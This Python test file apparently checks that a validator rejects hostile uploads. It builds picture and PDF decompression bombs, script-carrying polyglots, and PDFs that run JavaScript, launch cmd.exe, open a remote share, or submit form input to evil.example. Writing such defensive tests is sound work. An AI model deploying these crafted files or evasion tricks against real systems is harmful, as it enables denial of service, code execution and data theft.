# ruff: noqa: E501  (one row a case)
"""Attacks by files: pictures that are none or too much, PDFs, and other files that are given out."""

import base64
import struct
import zlib
from io import BytesIO

from PIL import Image

from tests.hostile.attacks import Attack
from tests.hostile.drawings import ASKS, drawn, svg


def _png_head(width: int, height: int, body: bytes = b"") -> bytes:
    """Write a PNG that says it is so large, in a few bytes."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def _within(name: str, content: bytes, says: str, written: bytes = b'<image href="%s"/>') -> Attack:
    """A drawing that holds a picture."""
    return drawn(name, svg(written % (b"data:image/png;base64," + base64.b64encode(content))), says)


WITHIN: tuple[Attack, ...] = (
    _within("svg-picture-bomb", _png_head(13_000, 13_000, zlib.compress(b"\0" * 999_999)), "picture 1 in it: it has more than 89 million pixels"),
    _within("svg-picture-bomb-in-style", _png_head(13_000, 13_000), "picture 1 in it: it has more than 89 million pixels", b'<path style="fill: url(%s)" d="M0 0h9"/>'),
    _within("svg-picture-bomb-behind-comment", _png_head(13_000, 13_000), "picture 1 in it: it has more than 89 million pixels", b"<style><!-- a -->path { fill: url(%s) }</style>"),
    drawn("svg-picture-of-a-kind", svg(b'<image href="data:image/png;a.b;base64,iVBORw0KGgo="/>'), ASKS),
    _within("svg-picture-none", b"<html>", "picture 1 in it: it cannot be read as a picture"),
    drawn("svg-many-pictures", svg(b'<image href="data:image/png;base64,%s"/>' % base64.b64encode(_png_head(9_000, 9_000)) * 2), "the pictures in it have more than 89 million pixels"),
)  # fmt: skip


def _picture(kind: str, **wishes: object) -> bytes:
    written = BytesIO()
    Image.new("RGB", (700, 400), (90, 120, 60)).save(written, kind, **wishes)
    return written.getvalue()


def _shown(name: str, content: bytes, says: str, file: str = "a.png") -> Attack:
    said = f"4: picture: the picture '{file}': {says}" if says else ""
    return Attack(name, f"![A picture]({file})", said, files={file: content})


PICTURES: tuple[Attack, ...] = (
    *WITHIN,
    _shown("picture-bomb", _png_head(50_000, 50_000, zlib.compress(b"\0" * 999)), "it has more than 89 million pixels"),
    _shown("picture-is-html", b"<html><script>boom()</script></html>", "it breaks off"),
    _shown("picture-is-svg", svg(b"<script>boom()</script>"), "it breaks off"),
    _shown(
        "picture-is-a-program", b"MZ\x90\0" + bytes(900) + b"IEND\xae\x42\x60\x82", "it cannot be read as a picture"
    ),
    _shown("picture-breaks-off", _picture("PNG")[:300], "it breaks off"),
    _shown("jpeg-is-html", b"\xff\xd8\xff\xfe\0\x20<script>boom()</script>", "it breaks off", "a.jpg"),
    _shown("picture-format-unknown", b"%!PS-Adobe\n(/etc/passwd) run", "'.eps' is not a picture format", "a.eps"),
)

DAMAGED = _shown("picture-unpacks-to-less", _png_head(700, 400, zlib.compress(b"\0" * 99)), "")
"""Found when it is printed, for no check unpacks every picture."""

POLYGLOTS: tuple[Attack, ...] = (
    _shown("jpeg-with-html-in-comment", _picture("JPEG", comment=b"<script>boom()</script>"), "", "a.jpg"),
    _shown("gif-and-script", _picture("GIF", comment=b"*/=1;boom()//"), "", "a.gif"),
    _shown("png-with-html-behind", _picture("PNG") + b"<script>boom()</script>" + _picture("PNG")[-12:], ""),
    Attack("jpeg-given-out", "[A picture](b.jpg)", files={"b.jpg": _picture("JPEG", comment=b"<script>boom()</script>")}),
)  # fmt: skip

_PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R {}>>endobj\n2 0 obj<</Type/Pages/Kids[4 0 R]/Count 1>>endobj\n4 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def pdf(entry: bytes, more: bytes = b"") -> bytes:
    """Write a PDF with an entry in its catalogue."""
    return _PDF.replace(b"{}", entry).replace(b"trailer", more + b"trailer")


_SCRIPT = b"5 0 <</S/JavaScript/JS(app.alert(1))>>"
_PACKED = zlib.compress(_SCRIPT)
_STREAM = b"9 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n"


def _packed(entries: bytes, content: bytes) -> bytes:
    """Write a PDF, with its table of objects, that opens with an action out of a stream of objects."""
    out, places = b"%PDF-1.5\n", dict[int, int]()
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
        2: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
        4: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        9: b"<<" + entries + b"/N 1/First 4/Length %d>>stream\n%s\nendstream" % (len(content), content),
    }
    for number, written in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj" % number + written + b"endobj\n"
    places[10] = len(out)
    rows = [struct.pack(">BIB", 1, places[n], 0) if n in places else bytes(6) for n in range(11)]
    rows[5] = struct.pack(">BIB", 2, 9, 0)
    table = b"<</Type/XRef/W[1 4 1]/Size 11/Root 1 0 R/Length 66>>stream\n" + b"".join(rows)
    return out + b"10 0 obj" + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % places[10]


def _given(name: str, content: bytes, says: str, file: str = "a.pdf") -> Attack:
    return Attack(name, f"[A file]({file})", f"4: link: '{file}': {says}", files={file: content})


GIVEN_OUT: tuple[Attack, ...] = (
    _given("pdf-javascript", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "it holds JavaScript"),
    _given("pdf-javascript-in-signs", pdf(b"/OpenAction<</S/#4aavaScript/#4aS(app.alert(1))>>"), "it holds JavaScript"),
    _given("pdf-javascript-packed", pdf(b"/OpenAction 5 0 R", _STREAM % (len(_PACKED), _PACKED)), "it holds JavaScript"),
    _given("pdf-javascript-between", pdf(b"").replace(b"1 0 obj", b"%stream\n1 0 obj").replace(b"/Catalog", b"/Catalog/OpenAction<</S%\n/JavaScript/JS(a)>>") + b"\n%endstream", "it holds JavaScript"),
    _given("pdf-javascript-objstm-in-signs", _packed(b"/Type/Obj#53tm/Filter/FlateDecode", _PACKED), "it holds JavaScript"),
    _given("pdf-javascript-far-stream", _packed(b"/Type/ObjStm/Pad(" + b"x" * 500 + b")/Filter/FlateDecode", _PACKED), "it holds JavaScript"),
    _given("pdf-javascript-unfiltered", _packed(b"/Type/ObjStm", _SCRIPT), "it holds JavaScript"),
    _given("pdf-javascript-two-filters", _packed(b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]", _PACKED.hex().encode() + b">"), "it holds JavaScript"),
    _given("pdf-javascript-behind-bomb", _packed(b"/Type/ObjStm/Filter/FlateDecode", zlib.compress(b"5 0 " + b" " * (65 << 20) + _SCRIPT[4:])), "it holds JavaScript"),
    _given("pdf-bomb", _packed(b"/Type/ObjStm/Filter/FlateDecode", zlib.compress(b"5 0 " + b" " * (65 << 20) + b"(a)")), "its objects unpack to more than 64 MB"),
    _given("pdf-opens-elsewhere", pdf(rb"/OpenAction<</S/GoToR/F(\\\\evil\\share\\x.pdf)>>"), "it opens a file of another computer"),
    _given("pdf-opens-file-beside", pdf(b"/OpenAction<</S/GoToR/F(x.pdf)>>"), "it asks for something elsewhere, or acts, when it is opened or turned (GoToR)"),
    _given("pdf-opens-address", pdf(b"/OpenAction 5 0 R", b"5 0 obj<</S/URI/URI(https://evil.example)>>endobj\n"), "it asks for something elsewhere, or acts, when it is opened or turned (URI)"),
    _given("pdf-turns-to-address", pdf(b"/AA<</WC<</S/GoTo/D[4 0 R/Fit]/Next[<</S/URI/URI(https://evil.example)>>]>>>>"), "it asks for something elsewhere, or acts, when it is opened or turned (URI)"),
    _given("pdf-links-to-script", pdf(b"", b"3 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI(java\tscript:boom\\(\\))>>>>endobj\n"), "it links to 'java"),
    _given("pdf-plays", pdf(b"", b"3 0 obj<</S/Rendition/OP 0>>endobj\n"), "it plays films or programs"),
    _given("pdf-fetches", pdf(b"/AA<</O<</S/ImportData/F(a.fdf)>>>>"), "it fetches data"),
    _given("pdf-launch", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "it starts other programs"),
    _given("pdf-xfa", pdf(b"/AcroForm<</XFA(a)/Fields[]>>"), "it holds a form that is a program"),
    _given("pdf-rich-media", pdf(b"", b"3 0 obj<</Type/Annot/Subtype/RichMedia>>endobj\n"), "it plays films or programs"),
    _given("pdf-sends-form", pdf(b"/OpenAction<</S/SubmitForm/F(https://evil.example)>>"), "it sends what readers type"),
    _given("pdf-encloses", pdf(b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 8 0 R>>>>]>>>>"), "it encloses a file (a.exe)"),
    _given("pdf-and-html", b"<html><script>boom()</script>\n" + pdf(b""), "it begins as a web page"),
    _given("pdf-in-name-only", b"<html><script>boom()</script>", "it is called .pdf, but is none"),
    _given("html-given-out", b"<script>boom()</script>", "files that end in '.html' are not given out", "a.html"),
    _given("script-given-out", b"boom()", "files that end in '.js' are not given out", "a.js"),
    _given("program-given-out", b"MZ", "files that end in '.exe' are not given out", "a.pdf.exe"),
    _given("web-server-settings", b"AddHandler x", "files that end in '' are not given out", "htaccess"),
    _given("page-called-a-citation", b"\xef\xbb\xbf\n <!DOCTYPE html><script>boom()</script>", "it begins as a web page", "a.ris"),
    _given("page-called-a-sound", b"<script>boom()</script>", "it begins as a web page", "a.mp3"),
    _given("svg-given-out", svg(b"<script>boom()</script>"), "it holds script", "a.svg"),
    _given("png-given-out-is-html", b"<script>boom()</script>", "it is called .png, but is none", "a.png"),
    _given("docx-is-none", b"MZ\x90\0", "it is called .docx, but is none", "a.docx"),
    Attack("attachment-html", fields="attachments:\n  - file: a.htm\n    title: A file\n", says="4: attachments.0.file: 'a.htm': files that end in '.htm'", files={"a.htm": b"<script>boom()</script>"}),
)  # fmt: skip
